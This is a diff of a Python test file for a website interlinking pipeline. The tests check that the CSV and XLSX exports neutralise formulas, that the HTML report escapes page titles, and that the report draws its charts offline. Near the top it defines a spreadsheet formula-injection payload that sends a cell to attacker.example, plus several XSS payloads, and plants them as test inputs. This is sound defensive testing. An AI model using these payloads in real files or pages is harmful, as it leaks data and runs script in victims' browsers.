@@ -1,5 +1,10 @@
 """Spreadsheet exports and the HTML report: they open safely, and the charts draw in a real browser."""
 
+from contextlib import contextmanager
+from dataclasses import dataclass, field
+from pathlib import Path
+
+import dagster as dg
 import duckdb
 import openpyxl
 import polars as pl
@@ -11,50 +16,105 @@ from interlink_pipeline_tests.conftest import LIGHT, chromium_path, register_lig
 
 INJECTED = '=HYPERLINK("http://attacker.example/?leak="&A1,"Back Pain")'
 TARGET_PAGE = "https://www.lightchiropractic.sg/treatment/lower-back-pain/"
+ROOT = "https://www.lightchiropractic.sg/"
+# titles of pages the home page links in its content (so drawn as hubs): text to show, never markup to run
+MARKUP = {
+    f"{ROOT}about/": "<script>alert(1)</script>",
+    f"{ROOT}contact/": "<img src=x onerror=alert(1)>",
+    f"{ROOT}chiropractor-prices-singapore/": '"Quotes" & ampersands',
+    f"{ROOT}headaches-and-migraines/": "<b>Headaches</b> &amp; Migraines",
+    f"{ROOT}ankle-and-knee-pain/": '<a href="//x.example">Knee</a>',
+}
 
 
-@pytest.fixture()
-def planned_site(warehouse_path, inbox_root, instance, crawls, encoder, tmp_path):
-    """lightchiropractic with a formula planted in one page's title, run through the whole pipeline."""
-    export = pl.read_csv(crawls / "lightchiropractic/internal_all.csv", infer_schema=False)
-    export = export.with_columns(
-        pl.when(pl.col("Address") == TARGET_PAGE)
-        .then(pl.lit(INJECTED))
-        .otherwise(pl.col("Title 1"))
-        .alias("Title 1")
+@dataclass
+class PlannedSite:
+    exports: Path  # the site's export folder
+    warehouse: Path
+    instance: dg.DagsterInstance
+
+
+@pytest.fixture(scope="module")
+def planned_site(crawls, encoder, tmp_path_factory):
+    """lightchiropractic with a formula and markup planted in page titles, run once through the whole
+    pipeline: every test here reads the same run."""
+    root = tmp_path_factory.mktemp("planned")
+    titles = {TARGET_PAGE: INJECTED, **MARKUP}
+    export = pl.read_csv(crawls / "lightchiropractic/internal_all.csv", infer_schema=False).with_columns(
+        pl.col("Address").replace_strict(titles, default=pl.col("Title 1")).alias("Title 1")
     )
-    crawl = tmp_path / "internal_all.csv"
+    crawl = root / "internal_all.csv"
     export.write_csv(crawl)
-    register_lightchiropractic(inbox_root, crawls, crawl)
-    result = run_site(warehouse_path, inbox_root, instance, LIGHT)
-    assert result.success
-    return warehouse_path.parent / "exports" / LIGHT
+    inbox, warehouse = root / "inbox", root / "warehouse" / "interlink.duckdb"
+    inbox.mkdir()
+    register_lightchiropractic(inbox, crawls, crawl)
+    with dg.instance_for_test() as instance:
+        result = run_site(warehouse, inbox, instance, LIGHT)
+        assert result.success
+        yield PlannedSite(warehouse.parent / "exports" / LIGHT, warehouse, instance)
 
 
-def test_exports_open_with_headers_fitted_columns_and_no_formulas(planned_site, warehouse_path):
-    with duckdb.connect(str(warehouse_path), read_only=True) as con:
+@dataclass
+class OpenedReport:
+    page: object  # Playwright's Page
+    refused: list[str] = field(default_factory=list)  # requests off the file: none, it needs no network
+    dialogs: list[str] = field(default_factory=list)  # alert(), confirm(), prompt(): script that ran
+
+
+@contextmanager
+def opened(report: Path):
+    """The report in headless Chromium, its charts drawn, with every request other than the file refused."""
+    from playwright.sync_api import sync_playwright
+
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path=chromium_path(), args=["--no-sandbox"])
+        page = browser.new_page(viewport={"width": 1300, "height": 900})
+        report_page = OpenedReport(page)
+
+        def only_the_file(route):
+            if not route.request.url.startswith("file://"):
+                report_page.refused.append(route.request.url)
+                return route.abort()
+            return route.continue_()
+
+        def dismiss(dialog):
+            report_page.dialogs.append(dialog.message)
+            dialog.dismiss()
+
+        page.route("**/*", only_the_file)
+        page.on("dialog", dismiss)
+        page.goto(report.as_uri())
+        for chart in ("topic-map", "depth-chart", "health-chart", "hub-tree"):
+            page.wait_for_selector(f"#{chart} .main-svg", timeout=20_000)
+        yield report_page
+        browser.close()
+
+
+def test_exports_open_with_headers_fitted_columns_and_no_formulas(planned_site):
+    with duckdb.connect(str(planned_site.warehouse), read_only=True) as con:
         plan_rows = con.execute("SELECT count(*) FROM marts.link_opportunities").fetchone()[0]
         pair_rows = con.execute("SELECT count(*) FROM ml.similarity_pairs").fetchone()[0]
-    assert sorted(p.name for p in planned_site.iterdir()) == [
+    folder = planned_site.exports
+    assert sorted(p.name for p in folder.iterdir()) == [
         "interlink_plan.xlsx",
         "link_plan.csv",
         "report.html",
         "similar_pages.csv",
         "topics.csv",
     ]
-    raw = (planned_site / "similar_pages.csv").read_bytes()
+    raw = (folder / "similar_pages.csv").read_bytes()
     assert raw.startswith(b"\xef\xbb\xbfpage_url,page_title,")  # BOM, header row
-    assert pl.read_csv(planned_site / "similar_pages.csv").height == pair_rows
+    assert pl.read_csv(folder / "similar_pages.csv").height == pair_rows
     planted = {
         cell
         for name in ("link_plan", "similar_pages", "topics")
-        for column in pl.read_csv(planned_site / f"{name}.csv", infer_schema=False).iter_columns()
+        for column in pl.read_csv(folder / f"{name}.csv", infer_schema=False).iter_columns()
         for cell in column.drop_nulls()
         if "HYPERLINK" in cell
     }
     assert planted == {"'" + INJECTED}  # shown as text, never evaluated
 
-    workbook = openpyxl.load_workbook(planned_site / "interlink_plan.xlsx")
+    workbook = openpyxl.load_workbook(folder / "interlink_plan.xlsx")
     assert workbook.sheetnames == ["link_plan", "similar_pages", "topics"]
     sheet = workbook["link_plan"]
     assert sheet.max_row == plan_rows + 1 and sheet["A1"].value == "source_url" and sheet["A1"].font.b
@@ -68,6 +128,13 @@ def test_exports_open_with_headers_fitted_columns_and_no_formulas(planned_site, 
         if cell.value and "HYPERLINK" in str(cell.value)
     ]
     assert cells and all(c.data_type == "s" and c.value.startswith("'=") for c in cells)
+    # numbers as rounded: 0.0931, never the float32's 0.09309999644756317
+    numbers = [
+        c.value for sheet in workbook for row in sheet.iter_rows() for c in row if type(c.value) is float
+    ]
+    assert numbers and all(len(repr(value)) <= 8 for value in numbers), max(
+        numbers, key=lambda v: len(repr(v))
+    )
 
 
 def test_a_sheet_past_the_row_limit_continues_on_the_next(tmp_path, monkeypatch):
@@ -83,33 +150,15 @@ def test_a_sheet_past_the_row_limit_continues_on_the_next(tmp_path, monkeypatch)
     assert not list(tmp_path.glob(".*partial"))
 
 
-def test_the_report_draws_its_charts_in_headless_chromium_without_network(
-    planned_site, warehouse_path, tmp_path
-):
-    from playwright.sync_api import sync_playwright
-
-    with duckdb.connect(str(warehouse_path), read_only=True) as con:
+def test_the_report_draws_its_charts_in_headless_chromium_without_network(planned_site, tmp_path):
+    with duckdb.connect(str(planned_site.warehouse), read_only=True) as con:
         shown = con.execute(
             "SELECT least(count(*), ?) FROM marts.link_opportunities WHERE reason <> 'hub'",
             [TOP_OPPORTUNITIES],
         ).fetchone()[0]
 
-    report = planned_site / "report.html"
-    requested = []
-    with sync_playwright() as playwright:
-        browser = playwright.chromium.launch(executable_path=chromium_path(), args=["--no-sandbox"])
-        page = browser.new_page(viewport={"width": 1300, "height": 900})
-
-        def only_the_file(route):
-            if not route.request.url.startswith("file://"):
-                requested.append(route.request.url)
-                return route.abort()
-            return route.continue_()
-
-        page.route("**/*", only_the_file)
-        page.goto(report.as_uri())
-        for chart in ("topic-map", "depth-chart", "health-chart", "hub-tree"):
-            page.wait_for_selector(f"#{chart} .main-svg", timeout=20_000)
+    with opened(planned_site.exports / "report.html") as report:
+        page = report.page
         drawn = {
             "points": page.locator("#topic-map .scatterlayer .point").count(),
             "topics": page.locator("#topic-map .legend .traces").count(),
@@ -119,9 +168,68 @@ def test_the_report_draws_its_charts_in_headless_chromium_without_network(
             "rows": page.locator("#opportunities tbody tr").count(),
         }
         shot = page.screenshot(path=str(tmp_path / "report.png"), full_page=True)
-        browser.close()
-    assert requested == []  # everything the page needs is in the file
+    assert report.refused == []  # everything the page needs is in the file
     assert drawn["points"] >= 90 and drawn["topics"] >= 2  # the kept pages, coloured by topic
     assert drawn["depth bars"] >= 6 and drawn["health bars"] == 4  # before and after
     assert drawn["slices"] >= 2 and drawn["rows"] == shown > 0  # the most probable links, at most 50
     assert len(shot) > 100_000  # a page of drawn charts, not a blank one
+
+
+def test_the_hub_chart_draws_the_hubs_the_home_page_links_already(planned_site):
+    # the crawl's own answer: the pages the home page's content links, and the hubs the plan adds
+    with duckdb.connect(str(planned_site.warehouse), read_only=True) as con:
+        linked = con.execute(
+            "SELECT DISTINCT p.page_id FROM raw.crawl_links l "
+            "JOIN staging.pages home ON home.url = l.source_url AND home.is_home "
+            "JOIN staging.pages p ON p.url = l.target_url AND p.page_id <> home.page_id "
+            "WHERE l.link_position = 'Content' AND l.follow AND l.link_type = 'Hyperlink'"
+        ).fetchall()
+        planned = con.execute(
+            "SELECT target_page_id FROM marts.link_opportunities WHERE reason = 'hub'"
+        ).fetchall()
+    linked, planned = {p for (p,) in linked}, {p for (p,) in planned}
+    assert len(linked) >= 5 and not linked & planned  # the plan adds hubs beside those, never again
+
+    with opened(planned_site.exports / "report.html") as report:
+        tree = report.page.evaluate("document.getElementById('hub-tree').data[0]")
+        slices = report.page.locator("#hub-tree .slice").count()
+    hubs = {i for i, parent in zip(tree["ids"], tree["parents"], strict=True) if parent == "home"}
+    assert hubs == linked | planned
+    assert slices == len(tree["ids"])  # home, every hub and the pages each links on to, all drawn
+
+
+def test_titles_holding_markup_show_as_text_and_run_nothing(planned_site):
+    with duckdb.connect(str(planned_site.warehouse), read_only=True) as con:
+        in_table = {
+            title
+            for (title,) in con.execute(
+                "SELECT source_title FROM marts.link_opportunities WHERE reason <> 'hub' "
+                "UNION SELECT target_title FROM marts.link_opportunities WHERE reason <> 'hub'"
+            ).fetchall()
+        }
+    titles = set(MARKUP.values())
+    assert titles & in_table  # some are in the table of opportunities (all of them are hubs)
+    # escaped everywhere in the file, the charts' JSON too: no title can close its <script> element
+    written = (planned_site.exports / "report.html").read_text()
+    assert [title for title in titles if title in written] == []
+
+    with opened(planned_site.exports / "report.html") as report:
+        page = report.page
+        injected = page.locator("img[src=x], svg a, #opportunities b, #opportunities script").count()
+        shown = {
+            chart: [t for t in texts if page.locator(chart).get_by_text(t, exact=True).first.is_visible()]
+            for chart, texts in (("#hub-tree", titles), ("#opportunities", titles & in_table))
+        }
+    assert report.dialogs == [] and injected == 0  # no script ran, no element was made from a title
+    # each title reads as it is written, markup and entities too
+    assert sorted(shown["#hub-tree"]) == sorted(titles)
+    assert sorted(shown["#opportunities"]) == sorted(titles & in_table)
+
+
+def test_the_report_metadata_is_a_path_not_a_dead_file_link(planned_site):
+    materialization = planned_site.instance.get_latest_materialization_event(dg.AssetKey("html_report"))
+    metadata = materialization.asset_materialization.metadata
+    report = planned_site.exports / "report.html"
+    assert metadata["path"] == dg.MetadataValue.path(str(report.resolve()))
+    # a browser opens no file:// link from the UI's http page: none is offered
+    assert not [key for key, value in metadata.items() if "file://" in str(value.value)]
